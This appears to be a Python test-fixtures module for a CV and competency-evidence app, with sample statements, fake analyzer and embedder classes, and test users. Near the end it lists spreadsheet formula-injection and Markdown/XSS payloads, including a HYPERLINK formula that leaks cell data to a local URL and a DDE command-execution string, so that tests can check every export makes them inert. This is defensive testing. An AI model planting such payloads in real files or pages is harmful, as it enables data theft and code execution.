"""Test data built by hand: analyses, a small batch and a stand-in analyzer, so store, review and app tests
need no model."""

from __future__ import annotations

from collections.abc import Callable, Iterable, Iterator

import numpy as np

from evidence.domain import (
    CompetencyEvidence,
    Cues,
    Document,
    DocumentAnalysis,
    Framework,
    MatchedIndicator,
    Role,
    Suggestion,
    Unit,
    UnitAnalysis,
)

FRAMEWORK = "community-link-worker"

# A short supporting statement: motivation, CV-style bullets, a STAR example and a hypothetical.
STATEMENT = """I am applying because I love this organisation.

- Set up a weekly drop-in with the local food bank so patients could get advice without a referral
- Trained 6 new volunteers in safeguarding and checked in with each of them monthly
When two GP practices disagreed about referrals, I met both practice managers and agreed one shared form.
I would always make sure I listen to patients.
"""

# An appraisal narrative whose plans (under headings of plans) are not evidence.
APPRAISAL = """## What went well
- Trained six volunteers to run the drop-in.

## Development for next year
- Attend the safeguarding refresher course.
### Stretch
- Shadow the manager on budget monitoring.

## Comments
I enjoyed the year and ran the summer outreach sessions myself.

Objectives for next year:
- Complete the Level 3 qualification.
"""


def make_analysis(doc_id: str, sentences: list[tuple[str, list[tuple[str, str | None, float]]]], *,
                  name: str = "", match: float | None = 0.5) -> DocumentAnalysis:
    """A DocumentAnalysis from (sentence, [(competency, level, score), ...]) pairs, offsets consistent."""
    text_parts, units, cursor = [], [], 0
    for index, (sentence, suggestions) in enumerate(sentences):
        start = cursor
        end = start + len(sentence)
        text_parts.append(sentence)
        cursor = end + 1
        units.append(UnitAnalysis(unit=Unit(index=index, text=sentence, start=start, end=end, cues=Cues()),
                                  suggestions=[_suggestion(c, lv, s) for c, lv, s in suggestions]))
    evidence: dict[str, list[int]] = {}
    for ua in units:
        for s in ua.suggestions:
            evidence.setdefault(s.competency, []).append(ua.unit.index)
    return DocumentAnalysis(
        document=Document(id=doc_id, text=" ".join(text_parts), name=name), units=units, match=match,
        competencies=[CompetencyEvidence(competency=c, name=c.replace("-", " ").title(), level=None, score=0.5,
                                         units=idx) for c, idx in evidence.items()])


def _suggestion(competency: str, level: str | None, score: float) -> Suggestion:
    return Suggestion(competency=competency, competency_name=competency.replace("-", " ").title(), level=level,
                      score=score, indicator=MatchedIndicator(id=f"{competency}.x", text=f"About {competency}"))


def small_batch() -> list[DocumentAnalysis]:
    return [
        make_analysis("A1", [("I led the team through the merger.", [("team-working", "3", 0.9)]),
                             ("I like tea.", []),
                             ("I mentored two new starters.", [("leading-supporting-developing-others", "2", 0.55),
                                                               ("team-working", "2", 0.45)])], name="Ann Example"),
        make_analysis("A2", [("We built a referral network with GPs.",
                              [("networking-relationship-building", "3", 0.52),
                               ("customer-stakeholder-focus", "2", 0.5)])], name="Bob Example"),
    ]


class FakeAnalyzer:
    """Stands in for evidence.engine.analyzer.Analyzer: every sentence evidences the first competency at level 2."""

    model_version = "fake-model"

    def __init__(self, framework: Framework) -> None:
        self.framework = framework

    def analyse(self, documents: Iterable[Document], *, role: Role | None = None,
                progress: Callable[[int], None] | None = None) -> Iterator[DocumentAnalysis]:
        comp = self.framework.competencies[0].id
        for doc in documents:
            sentences = [s.strip() + "." for s in doc.text.split(".") if s.strip()]
            analysis = make_analysis(doc.id, [(s, [(comp, "2", 0.6)]) for s in sentences], name=doc.name)
            yield analysis.model_copy(update={"document": doc})
            if progress:
                progress(1)

    def analyse_document(self, document: Document, *, role: Role | None = None) -> DocumentAnalysis:
        return next(iter(self.analyse([document], role=role)))


def tiny_framework() -> Framework:
    """Two competencies on a three-level scale with a mid-point, one negative indicator, one role."""
    return Framework.model_validate({
        "id": "tiny", "name": "Tiny",
        "levels": [{"id": "1", "name": "Level 1"}, {"id": "1.5", "name": "Level 1.5", "midpoint": True},
                   {"id": "2", "name": "Level 2"}],
        "competencies": [
            {"id": "teamwork", "name": "Teamwork", "indicators": [
                {"id": "t1", "text": "Helps colleagues finish their work", "level": "1"},
                {"id": "t2", "text": "Leads a team through a change", "level": "2"},
                {"id": "t3", "text": "Ignores what other teams need", "polarity": "negative"}]},
            {"id": "budgets", "name": "Budgets", "indicators": [
                {"id": "b1", "text": "Keeps a budget under control", "level": "2"}]},
        ],
        "roles": [{"id": "lead", "name": "Team lead", "requirements": [
            {"competency": "teamwork", "level": "2"},
            {"competency": "budgets", "level": "1", "priority": "desirable"}]}],
    })


class FakeEmbedder:
    """An embedder without a model: each distinct text gets a fixed random unit vector; counts its calls."""

    model_id = "fake-embedder"
    vectors_id = "fake-embedder"
    dimension = 8

    def __init__(self) -> None:
        self.calls = 0
        self._vectors: dict[str, np.ndarray] = {}
        self._rng = np.random.default_rng(0)

    def encode(self, texts: list[str]) -> np.ndarray:
        self.calls += 1
        for text in texts:
            if text not in self._vectors:
                v = self._rng.normal(size=self.dimension)
                self._vectors[text] = (v / np.linalg.norm(v)).astype(np.float32)
        return np.array([self._vectors[t] for t in texts], dtype=np.float32).reshape(len(texts), self.dimension)


# Spreadsheet-formula payloads (reliability review, D08): every export must write each as inert text.
FORMULA_PAYLOADS = ('=HYPERLINK("http://127.0.0.1:8629/leak?d="&B2,"Open CV")', "=1+1", "+1+1", "-1+1",
                    "@SUM(1+1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=IMPORTXML("http://x/","//a")', "=2*3")
# Markdown payloads (D14): links, images fetched from an outside URL, emphasis, Streamlit directives, shortcodes.
MARKDOWN_PAYLOADS = ("[PHISHMARK](http://127.0.0.1:8629/md-link)", "![](http://127.0.0.1:8629/md-img.png)",
                     "**BOLDMARK**", ":red[REDMARK]", ":rainbow-background[RAINBOW]", ":material/home: :smile:",
                     "www.example.com me@example.com http://127.0.0.1:8629/bare", "<img src=x onerror=alert(1)>",
                     "# heading\n- item", "`code` $x^2$ ~~gone~~ | a | b |")


# -- users for the app tests ---------------------------------------------------------------------

APP_PASSWORDS = {"admin": "admin-test-passphrase", "recruiter": "recruiter-test-passphrase",
                 "reviewer": "reviewer-test-passphrase"}  # long, uncommon: they meet the password policy


def cheap_hashing(monkeypatch) -> None:  # noqa: ANN001 - a pytest MonkeyPatch
    """scrypt at N=2^10 instead of 2^17 (0.6 s a hash), and no back-off left from other tests."""
    from evidence.services import auth

    monkeypatch.setitem(auth.SCRYPT, "n", 2**10)
    auth.THROTTLE.reset()


def add_app_users(monkeypatch) -> dict[str, str]:  # noqa: ANN001 - a pytest MonkeyPatch
    """admin, recruiter and reviewer (each with the role of that name) in $EVIDENCE_HOME; their passwords."""
    from evidence.services import auth

    cheap_hashing(monkeypatch)
    for name, password in APP_PASSWORDS.items():
        auth.add_user(name, password, name)
    return dict(APP_PASSWORDS)


# -- blind review (reliability review, D15) ----------------------------------------------------------------------


def name_traces(name: str, text: str) -> list[str]:
    """What of ``name`` shows in ``text``, accent-, case- and apostrophe-blind: each part of two letters or more
    as a word, the whole name run together ("jobloggs"), its initials in capitals ("JB"). Empty: no trace."""
    import re

    from anyascii import anyascii

    def words(s: str) -> list[str]:
        return re.findall(r"[a-z]+", anyascii(s).lower())

    found, shown = [], words(text)
    parts = [p for p in words(name) if len(p) > 1 and p not in {"van", "der", "de"}]
    found += [p for p in parts if p in shown]
    if "".join(words(name)) in "".join(shown):
        found.append("".join(words(name)))
    initials = "".join(p[0] for p in parts).upper()
    if len(parts) > 1 and re.search(rf"(?<![A-Za-z]){initials}(?![A-Za-z])", anyascii(text)):
        found.append(initials)  # in capitals: "JB", not the word "do" for Daniel Okafor
    return found
